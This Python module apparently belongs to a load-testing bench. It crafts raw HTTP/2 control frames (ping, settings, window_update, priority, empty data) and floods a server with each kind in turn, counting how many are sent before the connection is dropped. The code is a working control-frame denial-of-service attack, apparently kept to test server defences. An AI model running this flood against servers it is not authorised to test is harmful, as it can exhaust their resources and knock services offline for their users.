"""Keepalive abuse: frames that cost the server an answer and the sender nothing."""

import asyncio
import contextlib
import struct
from collections.abc import Callable

from loadtest.bench.attacks.attack import Counts, Target
from loadtest.bench.attacks.http2 import Http2Connection

_AT_ONCE = 100
_PAUSE_S = 0.001


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


FRAMES: dict[str, Callable[[int], bytes]] = {
    "ping": lambda number: _frame(6, 0, 0, struct.pack(">Q", number)),
    "settings": lambda number: _frame(4, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2)),
    "window_update": lambda _number: _frame(8, 0, 0, struct.pack(">I", 1)),
    "priority": lambda number: _frame(2, 0, 1 + 2 * (number % 1_000), struct.pack(">IB", 0, 1)),
    "empty_data": lambda _number: _frame(0, 0, 1, b""),
}
"""The frames of each kind, by name."""


async def flood(connection: Http2Connection, kind: str, num: int) -> int:
    """Send up to `num` frames of a kind; return how many went out before the server closed the connection."""
    for number in range(num):
        if not connection.is_open:
            return number
        connection.write_raw(FRAMES[kind](number))
        if number % _AT_ONCE == 0:
            with contextlib.suppress(OSError):
                await connection.drain()
            await asyncio.sleep(_PAUSE_S)
    return num


async def pings(target: Target, counts: Counts) -> None:
    """Flood a new connection with each kind of frame in turn."""
    for kind in FRAMES:
        async with await Http2Connection.open(target.address) as connection:
            stream = connection.call("Session")
            counts[kind] += await flood(connection, kind, 20_000)
            counts[f"{kind}_closed"] += not connection.is_open
            stream.reset()
